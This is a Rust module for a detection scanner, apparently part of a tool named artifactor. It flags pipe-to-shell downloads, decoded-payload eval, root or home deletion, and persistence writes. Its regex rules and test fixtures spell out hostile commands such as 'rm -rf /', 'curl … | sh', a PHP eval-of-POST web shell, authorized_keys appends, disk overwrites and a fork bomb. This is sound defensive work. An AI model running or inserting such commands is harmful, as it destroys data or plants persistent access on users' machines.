//! A content scan that flags risky text in an artifact: commands that run code fetched from
//! the network or hidden in an encoded blob, delete the root or home folder, or make
//! themselves persistent.
//!
//! Flags are advice for the reader. artifactor writes flagged content unchanged, under its
//! usual name, never runs it and never makes it executable.
//!
//! Every rule is a [`regex`] pattern, which matches in time linear in the input, so a
//! 37,000-character line costs no more than any other text of its size. No match crosses a
//! line break, so each flag points at one command line. One Aho-Corasick pass over the
//! rules' literal words decides which regexes run at all.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind};
use regex::bytes::{Regex, RegexBuilder};

/// A kind of risky content. The names are stable, because `manifest.json` stores them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Flag {
    /// A download piped or substituted into a shell or interpreter: `curl … | sh`,
    /// `bash <(curl …)`, `iwr … | iex`.
    PipeToShell,
    /// Encoded data decoded and then run: `eval(atob(…))`, `base64 -d | sh`,
    /// `exec(base64.b64decode(…))`, `powershell -enc …`.
    EvalOfDecodedData,
    /// A recursive delete of `/`, `~` or `$HOME`.
    DeleteOfRootOrHome,
    /// A write into a shell startup file such as `~/.bashrc` or PowerShell's `$PROFILE`.
    WriteToShellStartup,
    /// A write into the crontab or the system's cron folders.
    WriteToCrontab,
    /// A write into `~/.ssh/authorized_keys`.
    WriteToAuthorizedKeys,
    /// `dd` or `mkfs` aimed at a whole disk device.
    OverwriteOfDiskDevice,
    /// The shell fork bomb `:(){ :|:& };:`.
    ForkBomb,
}

impl Flag {
    /// Every flag, in the order [`scan`] returns them.
    pub const ALL: [Flag; 8] = [
        Flag::PipeToShell,
        Flag::EvalOfDecodedData,
        Flag::DeleteOfRootOrHome,
        Flag::WriteToShellStartup,
        Flag::WriteToCrontab,
        Flag::WriteToAuthorizedKeys,
        Flag::OverwriteOfDiskDevice,
        Flag::ForkBomb,
    ];

    /// Returns the flag's kebab-case name, as written in `manifest.json`.
    pub fn name(self) -> &'static str {
        match self {
            Flag::PipeToShell => "pipe-to-shell",
            Flag::EvalOfDecodedData => "eval-of-decoded-data",
            Flag::DeleteOfRootOrHome => "delete-of-root-or-home",
            Flag::WriteToShellStartup => "write-to-shell-startup",
            Flag::WriteToCrontab => "write-to-crontab",
            Flag::WriteToAuthorizedKeys => "write-to-authorized-keys",
            Flag::OverwriteOfDiskDevice => "overwrite-of-disk-device",
            Flag::ForkBomb => "fork-bomb",
        }
    }

    /// Returns a short description for the window and the command line's warnings.
    pub fn description(self) -> &'static str {
        match self {
            Flag::PipeToShell => "runs a download in a shell",
            Flag::EvalOfDecodedData => "decodes data and runs it",
            Flag::DeleteOfRootOrHome => "deletes the root or home folder",
            Flag::WriteToShellStartup => "writes to a shell startup file",
            Flag::WriteToCrontab => "writes to the crontab",
            Flag::WriteToAuthorizedKeys => "adds SSH authorized keys",
            Flag::OverwriteOfDiskDevice => "overwrites a disk device",
            Flag::ForkBomb => "contains a fork bomb",
        }
    }

    /// Returns words of which every match of the rule contains at least one, ignoring ASCII
    /// case. The rule's regex runs only on the lines that contain one.
    fn literals(self) -> &'static [&'static str] {
        match self {
            Flag::PipeToShell => &[
                "curl",
                "wget",
                "fetch",
                "iwr",
                "irm",
                "invoke-webrequest",
                "invoke-restmethod",
                "webclient",
                "downloadstring",
            ],
            Flag::EvalOfDecodedData => &[
                "eval",
                "exec",
                "function",
                "base64",
                "xxd",
                "openssl",
                "gunzip",
                "zcat",
                "powershell",
                "pwsh",
            ],
            Flag::DeleteOfRootOrHome => &["rm ", "rm\t", "rmtree", "rd ", "rd\t", "rmdir"],
            Flag::WriteToShellStartup => &[
                "bashrc",
                "bash_login",
                "bash_logout",
                "profile",
                "zshrc",
                "zshenv",
                "zlogin",
                "kshrc",
                "cshrc",
                "config.fish",
                "/etc/environment",
            ],
            Flag::WriteToCrontab => &["crontab", "/etc/cron", "/var/spool/cron"],
            Flag::WriteToAuthorizedKeys => &["authorized_keys"],
            Flag::OverwriteOfDiskDevice => &["/dev/"],
            Flag::ForkBomb => &[":()"],
        }
    }

    /// Returns the patterns of this flag's rule, which [`compile`] joins into one regex.
    fn patterns(self) -> &'static [&'static str] {
        match self {
            Flag::PipeToShell => PIPE_TO_SHELL,
            Flag::EvalOfDecodedData => EVAL_OF_DECODED_DATA,
            Flag::DeleteOfRootOrHome => DELETE_OF_ROOT_OR_HOME,
            Flag::WriteToShellStartup => WRITE_TO_SHELL_STARTUP,
            Flag::WriteToCrontab => WRITE_TO_CRONTAB,
            Flag::WriteToAuthorizedKeys => WRITE_TO_AUTHORIZED_KEYS,
            Flag::OverwriteOfDiskDevice => OVERWRITE_OF_DISK_DEVICE,
            Flag::ForkBomb => FORK_BOMB,
        }
    }
}

impl std::fmt::Display for Flag {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

// Building blocks. `[^\n|;]*` is the rest of one command of a pipeline, on one line.
/// A program that downloads: curl, wget, fetch, or PowerShell's web cmdlets.
const DOWNLOADER: &str = r"(?:\bcurl|\bwget|\bfetch|\biwr|\birm|\binvoke-webrequest|\binvoke-restmethod|\bnew-object\s+(?:system\.)?net\.webclient)\b";
/// A shell or interpreter that runs a script from standard input, after an optional `sudo`
/// or `env` and an optional path such as `/bin/`.
const SHELL: &str = r"(?:sudo\s+(?:-\S+\s+)*)?(?:(?:/[\w./-]*/)?env\s+)?(?:/[\w./-]*/)?(?:(?:ba|z|da|k|c|tc|fi|a)?sh\b|(?:python[0-9.]*|perl|ruby|node|php)(?:\s+-)?\s*(?:$|[;&)`'\x22]))";
/// PowerShell's expression evaluator.
const IEX: &str = r"(?:\biex|\binvoke-expression)\b";
/// A decoder of base64, hex or compressed data in a shell pipeline.
const SHELL_DECODER: &str = r"(?:\bbase64\s+(?:-\w+\s+)*(?:-d|-D|--decode)\b|\bxxd\s+(?:-\w+\s+)*-r\b|\bopenssl\s+(?:enc\s+)?(?:-\w+\s+)*-d\b|\bgunzip\b|\bzcat\b)";
/// A folder in the user's home: `~`, `$HOME`, `${HOME}`, `/root` or `/home/NAME`.
const HOME: &str = r"(?:~|\$HOME|\$\{HOME\}|/root|/home/[^/\s'\x22]+)";
/// The target of a redirection or `tee`: `>`, `>>`, `tee FILE` or `tee -a FILE`, then an
/// optional quote.
const WRITE: &str = r"(?:(?:^|[\s\d&)])>>?\s*|\btee\s+(?:-\w+\s+|--append\s+)*)['\x22]?";

static PIPE_TO_SHELL: &[&str] = &[
    // curl -fsSL https://example.com/install.sh | sudo bash
    r"(?:\bcurl|\bwget|\bfetch)\b[^\n|;]*\|\s*SHELL",
    // bash <(curl …), source <(wget -O- …)
    r"(?:\b(?:ba|z|da|k)?sh|\bsource|(?:^|[\s;&])\.)\s+(?:-\S+\s+)*<\(\s*DOWNLOADER",
    // sh -c "$(curl …)", eval "$(wget -O- …)"
    r"(?:\b(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*-c|\beval)\s+['\x22]?(?:\$\(|`)\s*DOWNLOADER",
    // iwr https://example.com/a.ps1 | iex
    r"DOWNLOADER[^\n|;]*\|\s*IEX",
    // iex (New-Object Net.WebClient).DownloadString('…'), iex (irm …)
    r"IEX\s*[(\s]\s*(?:\(\s*)*DOWNLOADER",
    r"IEX[^\n|;]*\.downloadstring\s*\(",
];

static EVAL_OF_DECODED_DATA: &[&str] = &[
    // eval(atob(…)), exec(base64.b64decode(…)), eval(gzinflate(base64_decode(…))),
    // exec(zlib.decompress(…)), new Function(atob(…))
    r"\b(?:eval|exec|Function)\s*\(\s*(?:[\w.$]+\s*\(\s*)*(?:__import__\s*\(\s*['\x22]\w+['\x22]\s*\)\s*\.)?(?:[\w$]+\.)*(?:atob|unescape|decodeURIComponent|fromCharCode|b64decode|b32decode|b16decode|a85decode|b85decode|decodebytes|decodestring|base64_decode|gzinflate|gzuncompress|str_rot13|decompress|fromhex|marshal\.loads)\s*\(",
    // eval(Buffer.from(…, 'base64').toString())
    r"\b(?:eval|exec|Function)\s*\(\s*(?:[\w.$]+\s*\(\s*)*Buffer\.from\s*\(",
    // echo … | base64 -d | sh
    r"SHELL_DECODER[^\n|;]*\|\s*SHELL",
    // eval "$(echo … | base64 -d)", bash -c "$(… | base64 --decode)"
    r"(?:\b(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*-c|\beval)\s+['\x22]?(?:\$\(|`)[^\n]*SHELL_DECODER",
    // powershell -enc SQBFAFgA…, pwsh -EncodedCommand …
    r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n|;]*[ \t][-/](?:e|ec|en[a-z]*)\s+['\x22]?[A-Za-z0-9+/]{16,}",
    // iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(…)))
    r"IEX[^\n|;]*frombase64string",
    r"frombase64string[^\n|;]*\|\s*IEX",
];

static DELETE_OF_ROOT_OR_HOME: &[&str] = &[
    // rm -rf /, rm -fr ~/, rm -r --no-preserve-root /*, rm -rf "$HOME"
    r"\brm\s+(?:(?:-[a-zA-Z]+|--[a-z-]+)\s+)*(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\s+(?:(?:-[a-zA-Z]+|--[a-z-]+)\s+)*['\x22]?(?:/|~|\$HOME|\$\{HOME\})/?\*?['\x22]?(?:$|[\s;&|)`])",
    // shutil.rmtree('/'), shutil.rmtree(os.path.expanduser('~')), shutil.rmtree(Path.home())
    r"\bshutil\.rmtree\s*\(\s*(?:['\x22](?:/|~/?)['\x22]|os\.path\.expanduser\s*\(\s*['\x22]~/?['\x22]\s*\)|(?:pathlib\.)?Path\.home\s*\(\s*\))\s*[,)]",
    // rd /s /q C:\, rmdir /s C:\
    r"\b(?:rd|rmdir)\s+(?:/[sq]\s+)*/s\s+(?:/q\s+)?['\x22]?[a-z]:\\?['\x22]?(?:$|[\s;&|])",
];

static WRITE_TO_SHELL_STARTUP: &[&str] = &[
    // echo 'export PATH=…' >> ~/.bashrc, tee -a "$HOME/.zshrc"
    r"WRITE(?:HOME/)\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|tcshrc|config/fish/config\.fish)\b",
    r"WRITE/etc/(?:profile|bash\.bashrc|zshrc|zsh/zshrc|zshenv|environment)\b",
    r"WRITE/etc/profile\.d/",
    // Add-Content $PROFILE …, "…" >> $PROFILE
    r"\b(?:add-content|set-content|out-file)\b[^\n|;]*\$profile\b",
    r"(?:^|[\s\d&)])>>?\s*\$profile\b",
    // open(os.path.expanduser('~/.bashrc'), 'a')
    r"\bopen\s*\([^\n;]*?\.(?:bashrc|bash_profile|profile|zshrc|zprofile)['\x22][^\n;]*?,\s*['\x22][aw]",
];

static WRITE_TO_CRONTAB: &[&str] = &[
    // (crontab -l; echo '* * * * * …') | crontab -
    r"\|\s*(?:sudo\s+)?crontab\s+(?:-u\s+\S+\s+)?-(?:$|[\s;&)])",
    // crontab FILE installs FILE as the crontab; `crontab -l` and `crontab -e` only list or
    // open an editor.
    r"\bcrontab\s+(?:-u\s+\S+\s+)?['\x22]?(?:[\w~$.-]*[./][\w.$-]+|\$\{?\w+)",
    r"WRITE(?:/etc/crontab\b|/etc/cron\.(?:d|hourly|daily|weekly|monthly)/|/var/spool/cron/)",
];

static WRITE_TO_AUTHORIZED_KEYS: &[&str] = &[r"WRITE[^\s'\x22]*\.ssh/authorized_keys2?\b"];

static OVERWRITE_OF_DISK_DEVICE: &[&str] = &[
    r"\bdd\b[^\n|;]*\bof=/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|disk\d)",
    r"\bmkfs(?:\.\w+)?\b[^\n|;]*\s/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d)",
    r"(?:^|[\s\d&)])>\s*/dev/(?:sd[a-z]|hd[a-z]|nvme\d+n\d+|mmcblk\d+)(?:$|[\s;&|])",
];

static FORK_BOMB: &[&str] = &[r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"];

/// The compiled rules: one regex for each flag in [`Flag::ALL`] order, and one automaton of
/// all their literals, whose pattern ids map to indices into the regexes.
struct Rules {
    regexes: Vec<(Flag, Regex)>,
    literals: AhoCorasick,
    literal_rule: Vec<usize>,
}

static RULES: LazyLock<Rules> = LazyLock::new(|| {
    let regexes = Flag::ALL
        .iter()
        .map(|&flag| (flag, compile(flag.patterns())))
        .collect();
    let mut literal_rule = Vec::new();
    let mut words = Vec::new();
    for (index, flag) in Flag::ALL.iter().enumerate() {
        for word in flag.literals() {
            words.push(*word);
            literal_rule.push(index);
        }
    }
    let literals = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(AhoCorasickKind::DFA))
        .build(&words)
        // The literals are constants, so a failure here is a bug that every test catches.
        .unwrap_or_else(|err| panic!("invalid scan literals: {err}"));
    Rules {
        regexes,
        literals,
        literal_rule,
    }
});

/// Joins patterns into one regex, after replacing the building blocks' names by their
/// patterns and `\s+`, `\s*` by spaces and tabs, so that no match crosses a line break.
///
/// The regex matches bytes, ignores ASCII case and has Unicode classes off, so `\w` and `\b`
/// are ASCII and the lazy DFA handles text in any script.
fn compile(patterns: &[&str]) -> Regex {
    let joined = patterns
        .iter()
        .map(|pattern| {
            let expanded = pattern
                .replace("SHELL_DECODER", SHELL_DECODER)
                .replace("DOWNLOADER", DOWNLOADER)
                .replace("SHELL", SHELL)
                .replace("IEX", IEX)
                .replace("HOME/", &format!("{HOME}/"))
                .replace("WRITE", WRITE)
                .replace(r"\s+", r"[ \t]+")
                .replace(r"\s*", r"[ \t]*");
            format!("(?:{expanded})")
        })
        .collect::<Vec<_>>()
        .join("|");
    RegexBuilder::new(&joined)
        .case_insensitive(true)
        .multi_line(true)
        .crlf(true)
        .unicode(false)
        .build()
        // The rules are constants, so a pattern that does not compile is a bug, and the
        // test `every_rule_compiles` catches it.
        .unwrap_or_else(|err| panic!("invalid scan pattern {joined}: {err}"))
}

/// Returns the flags that `content` raises, in [`Flag::ALL`] order, each at most once.
///
/// A search for the rules' literals finds the next line that contains one. A second search
/// lists the rules whose literals the line contains, and each such rule's regex runs on the
/// line. The first search then goes on after the line, so the cost stays linear even in one
/// long minified line.
pub fn scan(content: &str) -> Vec<Flag> {
    let rules = &*RULES;
    let bytes = content.as_bytes();
    let mut flagged = [false; Flag::ALL.len()];
    let mut line_start = 0;
    while let Some(found) = rules
        .literals
        .find(aho_corasick::Input::new(bytes).range(line_start..))
    {
        // Literals contain no line break, so the line of the match starts at or after
        // `line_start`.
        line_start +=
            memchr::memrchr(b'\n', &bytes[line_start..found.start()]).map_or(0, |at| at + 1);
        let line_end =
            memchr::memchr(b'\n', &bytes[found.end()..]).map_or(bytes.len(), |at| found.end() + at);
        let line = &bytes[line_start..line_end];
        let mut present = [false; Flag::ALL.len()];
        for found in rules.literals.find_overlapping_iter(line) {
            present[rules.literal_rule[found.pattern().as_usize()]] = true;
        }
        for (rule, (regex, done)) in rules.regexes.iter().zip(&mut flagged).enumerate() {
            if present[rule] && !*done {
                *done = regex.1.is_match(line);
            }
        }
        if flagged.iter().all(|&done| done) || line_end == bytes.len() {
            break;
        }
        line_start = line_end + 1;
    }
    rules
        .regexes
        .iter()
        .zip(flagged)
        .filter(|(_, flagged)| *flagged)
        .map(|((flag, _), _)| *flag)
        .collect()
}

/// Returns the flags that `content` raises, found by running every rule's regex on every
/// line, with no literal prefilter. Tests and the fuzz targets compare [`scan`] with this
/// reference, which is slower because it runs every regex on every line.
#[doc(hidden)]
pub fn scan_every_line(content: &str) -> Vec<Flag> {
    let rules = &*RULES;
    let lines: Vec<&[u8]> = content.as_bytes().split(|&byte| byte == b'\n').collect();
    rules
        .regexes
        .iter()
        .filter(|(_, regex)| lines.iter().any(|line| regex.is_match(line)))
        .map(|(flag, _)| *flag)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flags(content: &str) -> Vec<&'static str> {
        scan(content).into_iter().map(Flag::name).collect()
    }

    /// Asserts that each line raises exactly `flag`.
    fn assert_flagged(flag: Flag, lines: &[&str]) {
        for line in lines {
            assert_eq!(flags(line), [flag.name()], "{line:?}");
        }
    }

    fn assert_clean(lines: &[&str]) {
        for line in lines {
            assert_eq!(flags(line), Vec::<&str>::new(), "{line:?}");
        }
    }

    #[test]
    fn every_rule_compiles() {
        assert_eq!(RULES.regexes.len(), Flag::ALL.len());
    }

    #[test]
    fn names_are_unique_kebab_case() {
        let mut names: Vec<_> = Flag::ALL.iter().map(|flag| flag.name()).collect();
        for name in &names {
            assert!(
                name.chars().all(|c| c.is_ascii_lowercase() || c == '-'),
                "{name}"
            );
        }
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), Flag::ALL.len());
    }

    #[test]
    fn download_into_shell_is_flagged() {
        assert_flagged(
            Flag::PipeToShell,
            &[
                "curl -fsSL https://example.com/install.sh | sh",
                "curl -sSf https://sh.rustup.rs | sh -s -- -y",
                "curl https://example.com/x?a=1&b=2 | sudo -E bash -",
                "wget -qO- https://example.com/i.sh | bash",
                "wget -O - https://example.com/i.sh|/bin/sh",
                "curl -L https://example.com/get | /usr/bin/env bash",
                "curl -sSL https://install.python-poetry.org | python3 -",
                "curl -s https://example.com/x.py | python",
                "bash <(curl -s https://example.com/i.sh)",
                "source <(wget -qO- https://example.com/env.sh)",
                "sh -c \"$(curl -fsSL https://example.com/install.sh)\"",
                "eval \"$(curl -s https://example.com/env)\"",
                "iwr https://example.com/a.ps1 | iex",
                "Invoke-WebRequest -Uri https://example.com/a.ps1 -UseBasicParsing | Invoke-Expression",
                "IEX (New-Object Net.WebClient).DownloadString('https://example.com/a.ps1')",
                "iex (irm https://example.com/a.ps1)",
                "irm https://example.com/a.ps1 | IEX",
            ],
        );
    }

    #[test]
    fn harmless_downloads_are_clean() {
        assert_clean(&[
            "curl -fsSL https://example.com/install.sh -o install.sh",
            "curl -s https://api.example.com/items | jq .",
            "curl -s https://example.com/data.json | python -m json.tool",
            "curl -s https://example.com/sums | shasum -a 256 -c",
            "wget https://example.com/file.tar.gz && tar xzf file.tar.gz",
            "const response = await fetch(url); const text = await response.text();",
            "# Download the script, read it, then run it:\ncurl -o i.sh https://x\nsh i.sh",
            "Invoke-WebRequest -Uri https://example.com/a.zip -OutFile a.zip",
        ]);
    }

    #[test]
    fn decoded_data_that_runs_is_flagged() {
        assert_flagged(
            Flag::EvalOfDecodedData,
            &[
                "eval(atob('YWxlcnQoMSk='))",
                "window.eval( atob(payload) );",
                "new Function(atob(code))()",
                "eval(Buffer.from(data, 'base64').toString())",
                "eval(String.fromCharCode(97, 108, 101, 114, 116))",
                "exec(base64.b64decode('cHJpbnQoMSk='))",
                "exec(zlib.decompress(base64.b64decode(blob)))",
                "exec(__import__('base64').b64decode(s))",
                "eval(compile(base64.b64decode(s), '<x>', 'exec'))",
                "exec(marshal.loads(data))",
                "<?php eval(gzinflate(base64_decode('...'))); ?>",
                "<?php eval(base64_decode($_POST['x'])); ?>",
                "echo ZWNobyBoaQ== | base64 -d | sh",
                "echo ZWNobyBoaQ== | base64 --decode | bash",
                "cat payload.hex | xxd -r -p | bash",
                "eval \"$(echo ZWNobyBoaQ== | base64 -d)\"",
                "bash -c \"$(base64 -d <<< ZWNobyBoaQ==)\"",
                "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
                "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A",
                "pwsh -e SQBFAFgAIAAoAE4AZQB3AC0A",
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))",
            ],
        );
    }

    #[test]
    fn ordinary_decoding_is_clean() {
        assert_clean(&[
            "const bytes = atob(encoded); console.log(bytes.length);",
            "data = base64.b64decode(text)",
            "result = eval(expression)",
            "echo aGk= | base64 -d > out.txt",
            "base64 -d image.b64 > image.png",
            "powershell -File build.ps1 -Configuration Release",
            "json.loads(text)",
            "const f = new Function('a', 'b', 'return a + b');",
        ]);
    }

    #[test]
    fn delete_of_root_or_home_is_flagged() {
        assert_flagged(
            Flag::DeleteOfRootOrHome,
            &[
                "rm -rf /",
                "sudo rm -rf / --no-preserve-root",
                "rm -rf --no-preserve-root /",
                "rm -fr /*",
                "rm -r -f ~",
                "rm -Rf ~/",
                "rm -rf ~/*",
                "rm -rf \"$HOME\"",
                "rm --recursive --force ${HOME}/",
                "rm -rf $HOME; echo done",
                "shutil.rmtree('/')",
                "shutil.rmtree(os.path.expanduser('~'))",
                "shutil.rmtree(Path.home())",
                "rd /s /q C:\\",
            ],
        );
    }

    #[test]
    fn ordinary_deletes_are_clean() {
        assert_clean(&[
            "rm -rf /tmp/build",
            "rm -rf ./target",
            "rm -rf ~/.cache/pip",
            "rm -rf \"$HOME/.cache/thing\"",
            "rm -f /",
            "rm -rf node_modules/",
            "shutil.rmtree(build_dir)",
            "rm -rf $BUILD_DIR/",
        ]);
    }

    #[test]
    fn startup_file_write_is_flagged() {
        assert_flagged(
            Flag::WriteToShellStartup,
            &[
                "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
                "echo 'alias ll=\"ls -l\"' > ~/.zshrc",
                "printf '%s\\n' 'source x' | tee -a \"$HOME/.profile\"",
                "cat snippet >> /root/.bash_profile",
                "echo 'set -x PATH' >> ~/.config/fish/config.fish",
                "echo 'export X=1' | sudo tee /etc/profile.d/x.sh",
                "echo 'umask 000' >> /etc/profile",
                "Add-Content -Path $PROFILE -Value 'Set-Alias g git'",
                "'Import-Module x' >> $PROFILE",
                "with open(os.path.expanduser('~/.bashrc'), 'a') as rc:",
            ],
        );
    }

    #[test]
    fn reading_startup_files_is_clean() {
        assert_clean(&[
            "source ~/.bashrc",
            "cat ~/.zshrc",
            "grep PATH ~/.profile",
            "Then add `export PATH=...` to your shell's startup file.",
            "with open(os.path.expanduser('~/.bashrc')) as rc:",
        ]);
    }

    #[test]
    fn crontab_write_is_flagged() {
        assert_flagged(
            Flag::WriteToCrontab,
            &[
                "(crontab -l; echo '*/5 * * * * /tmp/x') | crontab -",
                "echo '@reboot /tmp/x' | sudo crontab -u root -",
                "crontab mycron.txt",
                "echo '* * * * * root /tmp/x' >> /etc/crontab",
                "echo '0 * * * * root x' | sudo tee /etc/cron.d/job",
                "cp job /var/spool/cron/root && echo x > /var/spool/cron/root",
            ],
        );
    }

    #[test]
    fn crontab_reading_is_clean() {
        assert_clean(&[
            "crontab -l",
            "crontab -e",
            "crontab -l | grep backup",
            "cat /etc/crontab",
        ]);
    }

    #[test]
    fn authorized_keys_write_is_flagged() {
        assert_flagged(
            Flag::WriteToAuthorizedKeys,
            &[
                "echo 'ssh-ed25519 AAAA… x' >> ~/.ssh/authorized_keys",
                "cat key.pub | tee -a /root/.ssh/authorized_keys",
                "echo key > \"$HOME/.ssh/authorized_keys2\"",
            ],
        );
        assert_clean(&["cat ~/.ssh/authorized_keys", "ssh-copy-id user@host"]);
    }

    #[test]
    fn disk_overwrite_is_flagged() {
        assert_flagged(
            Flag::OverwriteOfDiskDevice,
            &[
                "dd if=/dev/zero of=/dev/sda bs=1M",
                "sudo dd if=image.iso of=/dev/nvme0n1 status=progress",
                "mkfs.ext4 /dev/sdb1",
                "mkfs -t vfat /dev/mmcblk0p1",
                "cat /dev/urandom > /dev/sda",
            ],
        );
        assert_clean(&[
            "dd if=/dev/zero of=disk.img bs=1M count=64",
            "mkfs.ext4 disk.img",
            "echo hi > /dev/null",
        ]);
    }

    #[test]
    fn fork_bomb_is_flagged() {
        assert_flagged(Flag::ForkBomb, &[":(){ :|:& };:", ":(){ : | : & } ; :"]);
        assert_clean(&["f() { echo hi; }; f"]);
    }

    #[test]
    fn several_flags_come_in_order() {
        let content = "rm -rf ~\ncurl https://x | sh\n:(){ :|:& };:\n";
        assert_eq!(
            flags(content),
            ["pipe-to-shell", "delete-of-root-or-home", "fork-bomb"]
        );
    }

    #[test]
    fn match_never_spans_lines() {
        assert_clean(&[
            "curl https://example.com/data\n| sh is a pipe into a shell, explained",
            "rm -rf\n/",
        ]);
    }

    #[test]
    fn reference_scan_agrees() {
        let contents = [
            "curl https://x | sh",
            "echo ok\nrm -rf ~\ncurl https://x | sh\n:(){ :|:& };:\n",
            "iex\n(irm https://example.com/a.ps1)",
            "no risky text",
            "fetch(a); fetch(b); curl https://x | sh",
            "\nfunction f() {}\nfunction g() { eval(atob('eA==')) }",
            "profile; rm -rf ~; crontab -l",
            "function a() {}\n\nrm -rf ~",
        ];
        for content in contents {
            assert_eq!(scan(content), scan_every_line(content), "{content:?}");
        }
    }

    proptest::proptest! {
        #[test]
        fn scan_agrees_with_reference(
            parts in proptest::collection::vec(proptest::prop_oneof![
                proptest::strategy::Just("curl https://x"),
                proptest::strategy::Just(" | sh"),
                proptest::strategy::Just("function f() { fetch(u) }"),
                proptest::strategy::Just("eval(atob('eA=='))"),
                proptest::strategy::Just("rm -rf ~"),
                proptest::strategy::Just(" >> ~/.bashrc"),
                proptest::strategy::Just("crontab -l"),
                proptest::strategy::Just(":(){ :|:& };:"),
                proptest::strategy::Just("\n"),
                proptest::strategy::Just("\r\n"),
                proptest::strategy::Just("x"),
            ], 0..24)
        ) {
            let content = parts.concat();
            proptest::prop_assert_eq!(scan(&content), scan_every_line(&content));
        }
    }

    #[test]
    fn flags_ignore_case() {
        assert_flagged(Flag::PipeToShell, &["CURL https://x | SH"]);
    }

    #[test]
    fn long_lines_scan_quickly() {
        // Text made to keep the patterns' open repetitions alive across the whole line: pipe
        // characters, `curl`, `eval(`, `rm -r` and redirections, with no match anywhere.
        let pieces = [
            "curl x ",
            "eval(a(",
            "rm -r -f ",
            ">> ~/.b",
            "base64 -d ",
            "iex ",
            "tee -a ",
            "| ",
            "dd of=",
            "x",
        ];
        let mut line = String::new();
        while line.len() < 37_000 {
            for piece in pieces {
                line.push_str(piece);
            }
        }
        let mut content = String::new();
        for _ in 0..30 {
            content.push_str(&line);
            content.push('\n');
        }
        let started = std::time::Instant::now();
        let found = scan(&content);
        let elapsed = started.elapsed();
        assert!(found.is_empty(), "{found:?}");
        // About 1.1 MB; measured at well under 100 ms in a debug build on two cores.
        assert!(
            elapsed < std::time::Duration::from_secs(5),
            "scanning {} bytes took {elapsed:?}",
            content.len()
        );
    }
}
